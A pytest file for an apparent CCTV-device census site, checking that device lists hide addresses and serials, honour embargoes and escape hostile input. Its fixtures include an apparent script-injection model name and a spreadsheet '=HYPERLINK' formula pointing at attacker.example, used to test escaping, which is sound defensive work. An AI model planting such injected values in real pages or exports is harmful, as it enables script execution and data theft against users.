"""A body's devices on its page and in its API record, in Chromium as a visitor, on a phone and signed in:
each recorder followed by the cameras it records, addresses for signed-in users or once the body opts in,
never a serial number or who scanned, a device's hostile model shown as text, nothing while under embargo."""

from __future__ import annotations

import time
from collections.abc import Iterator

import httpx
import pytest
from test_api_schemas import validate  # noqa: F401 - the fixture
from test_browser import _serving, _shots
from test_browser_people import _page, _sign_in, browser  # noqa: F401 - the fixture
from webdata import REVIEWER, Seeded, login, seed

from camcensus.network.estates import set_addresses_published
from camcensus.store import Store
from scanned_estate import HOSTILE_MODEL, PRIVATE, Estate, scan_estate


@pytest.fixture
def estate(sqlite_store: Store, seeded: Seeded) -> Estate:
    """The council's estate scanned, one camera answering with hostile text; the embargoed school's too."""
    with sqlite_store.session() as session:
        found = scan_estate(session, seeded.council, hostile=True)
        scan_estate(session, seeded.school)
    return found


def test_api_record_lists_devices_without_addresses_for_the_public(client, seeded, estate, validate) -> None:  # noqa: F811
    answer = client.get(f"/api/bodies/{seeded.council}")
    validate("/api/bodies/{body_id}", answer.json())
    devices = answer.json()["devices"]
    assert [d["id"] for d in devices["items"]][:2] == [estate.recorder, estate.camera]
    assert devices["addresses_shown"] is False and devices["scanned"]["cameras"] == 4
    assert {d["address"] for d in devices["items"]} == {None} and "serial" not in answer.text
    assert [p for p in PRIVATE if p in answer.text] == []
    assert HOSTILE_MODEL in {d["model"] for d in devices["items"]}  # JSON carries the text as it is
    school = client.get(f"/api/bodies/{seeded.school}").json()
    validate("/api/bodies/{body_id}", school)
    assert school["facts_embargoed"] and school["devices"] is None

    login(client, *REVIEWER)
    signed_in = client.get(f"/api/bodies/{seeded.council}").json()
    validate("/api/bodies/{body_id}", signed_in)
    shown = signed_in["devices"]
    assert shown["addresses_shown"] and shown["items"][0]["address"] == "10.1.0.4"
    assert "AAWR" not in str(signed_in) and "estate.owner" not in str(signed_in), "serials and scanners never"


def test_review_of_what_will_be_published_lists_the_devices_as_the_public_page_does(
    client, seeded, estate, sqlite_store
) -> None:
    public_page = client.get(f"/bodies/{seeded.council}").text
    public_json = client.get(f"/api/bodies/{seeded.council}").json()["devices"]
    login(client, *REVIEWER)
    preview = client.get(f"/review/published/{seeded.council}")
    assert preview.status_code == 200
    view = client.get(f"/api/review/published/{seeded.council}").json()
    assert view["devices"] == public_json, "one reading of a body's devices, the public's"
    assert 'id="devices"' in preview.text and f'id="device-{estate.recorder}"' in preview.text
    for words in ("DS-7608NI-K2", "lists 3 cameras and 1 disabled channel", "named only by its recorder"):
        assert words in preview.text and words in public_page
    assert "Addresses are withheld" in preview.text, "the reviewer sees what the public will: no addresses"
    assert [p for p in PRIVATE if p in preview.text] == [] and "<th>Address</th>" not in preview.text
    assert "AAWR" not in preview.text and "estate.owner" not in preview.text
    assert HOSTILE_MODEL not in preview.text  # escaped, shown as text

    school = client.get(f"/review/published/{seeded.school}").text
    assert "Under embargo" in school and 'id="devices"' in school, "what will be published once it ends"
    assert "10.1.0" not in school

    with sqlite_store.session() as session:
        set_addresses_published(session, seeded.council, True)
    opted_in = client.get(f"/review/published/{seeded.council}").text
    assert "The body agreed to publish its devices' addresses" in opted_in and "10.1.0.4" in opted_in


@pytest.fixture
def served(sqlite_store: Store) -> Iterator[tuple[str, Seeded, Estate, Store]]:
    seeded = seed(sqlite_store)
    with sqlite_store.session() as session:
        found = scan_estate(session, seeded.council, hostile=True)
        scan_estate(session, seeded.school)
    with _serving(sqlite_store) as base:
        yield base, seeded, found, sqlite_store


def _devices_shot(page, path) -> None:
    """A screenshot of the page's devices section, from its heading to the next one."""
    top = page.evaluate("document.getElementById('devices').getBoundingClientRect().top + window.scrollY")
    end = page.evaluate("document.getElementById('diligence').getBoundingClientRect().top + window.scrollY")
    width = page.viewport_size["width"]
    page.screenshot(
        path=path, full_page=True, clip={"x": 0, "y": top - 8, "width": width, "height": end - top}
    )


def test_body_page_devices_section_as_visitor_phone_and_reviewer(served, browser, tmp_path) -> None:  # noqa: F811
    base, seeded, found, store = served
    shots, errors = _shots(tmp_path), []
    page = _page(browser, 1280, errors)
    page.goto(f"{base}/bodies/{seeded.council}")
    rows = page.locator("table.devices tr.device")
    assert rows.count() == 5
    assert rows.nth(0).get_attribute("id") == f"device-{found.recorder}"
    recorder = page.locator(f"#device-{found.recorder} td.model").inner_text()
    assert "DS-7608NI-K2" in recorder and "lists 3 cameras and 1 disabled channel; takes up to 8" in recorder
    behind = page.locator("table.devices tr.behind td.model")
    assert [behind.nth(i).inner_text().split("\n")[0] for i in range(3)] == [
        "IP channel 1 DS-2CD2143G2-I",
        "IP channel 2 DS-2CD2386G2-IU",
        "analogue input 3 model not read",
    ]
    assert "named only by its recorder" in behind.nth(1).inner_text()
    scanned = page.locator("p.scanned").inner_text()
    assert scanned.startswith("Cameras found by scanning: 4, each counted once: 2 answering the scan")
    assert "Addresses are withheld" in page.locator("#devices + p").inner_text()
    dahua = page.locator(f"#device-{found.dahua}")
    assert dahua.locator("td.model").inner_text().startswith(HOSTILE_MODEL[:40])  # shown as text
    assert page.evaluate("window.pwned === undefined")
    assert "CVE-2021-33045 likely affected" in dahua.locator(".advisory.likely").inner_text()
    assert dahua.locator("td.firmware").inner_text().startswith('=HYPERLINK("http://attacker.example')
    content = page.content()
    assert [p for p in PRIVATE if p in content] == [] and "<th>Address</th>" not in content
    _devices_shot(page, shots / "body-devices.png")

    phone = _page(browser, 390, errors)
    phone.goto(f"{base}/bodies/{seeded.council}")
    assert phone.evaluate("document.documentElement.scrollWidth") <= 390, "nothing scrolls sideways"
    assert phone.locator(f"#device-{found.recorder} td[data-label=Vendor]").is_visible()
    _devices_shot(phone, shots / "body-devices-phone.png")

    school = page.goto(f"{base}/bodies/{seeded.school}")
    assert school is not None and school.status == 200
    assert "devices are under embargo" in page.locator("#devices + p").inner_text()
    assert page.locator("table.devices").count() == 0 and "10.1.0" not in page.content()

    reviewer = _page(browser, 1280, errors)
    _sign_in(reviewer, base)
    reviewer.goto(f"{base}/bodies/{seeded.council}")
    assert reviewer.locator(f"#device-{found.recorder} td.address").inner_text().startswith("10.1.0.4:80")
    assert "shown to signed-in users only" in reviewer.locator("#devices + p").inner_text()
    assert "AAWR" not in reviewer.content() and "estate.owner" not in reviewer.content()
    _devices_shot(reviewer, shots / "body-devices-signed-in.png")
    assert errors == [], "no script errors, nothing blocked by the content security policy"


def test_public_page_shows_addresses_once_the_body_opts_in_and_not_after(served) -> None:
    base, seeded, _, store = served
    url = f"{base}/bodies/{seeded.council}"
    assert "10.1.0.4" not in httpx.get(url).text
    with store.session() as session:
        set_addresses_published(session, seeded.council, True)
    assert _eventually(url, lambda text: "10.1.0.4" in text), "the cached page notices the opt-in"
    assert "The body agreed to publish its devices' addresses" in httpx.get(url).text
    with store.session() as session:
        set_addresses_published(session, seeded.council, False)
    assert _eventually(url, lambda text: "10.1.0.4" not in text), "and its withdrawal"


def _eventually(url: str, check, tries: int = 100) -> bool:
    """Whether the page at ``url`` passes ``check`` within the caches' data-version period (a second)."""
    for _ in range(tries):
        if check(httpx.get(url).text):
            return True
        time.sleep(0.1)
    return False


def test_review_of_what_will_be_published_in_chromium_on_a_wide_screen_and_a_phone(
    served,
    browser,  # noqa: F811
    tmp_path,
) -> None:
    base, seeded, found, _ = served
    shots, errors = _shots(tmp_path), []
    for width in (1280, 390):
        page = _page(browser, width, errors)
        _sign_in(page, base)
        page.goto(f"{base}/review/published/{seeded.council}")
        assert page.locator("table.devices tr.device").count() == 5
        assert page.locator(f"#device-{found.recorder} td[data-label=Vendor]").is_visible()
        assert page.locator("table.published td[data-label='As published']").first.is_visible()
        assert page.evaluate("document.documentElement.scrollWidth") <= width, "nothing scrolls sideways"
        assert page.evaluate("window.pwned === undefined")
        page.screenshot(path=shots / f"review-published-{width}.png", full_page=True)
    assert errors == [], "no script errors, nothing blocked by the content security policy"
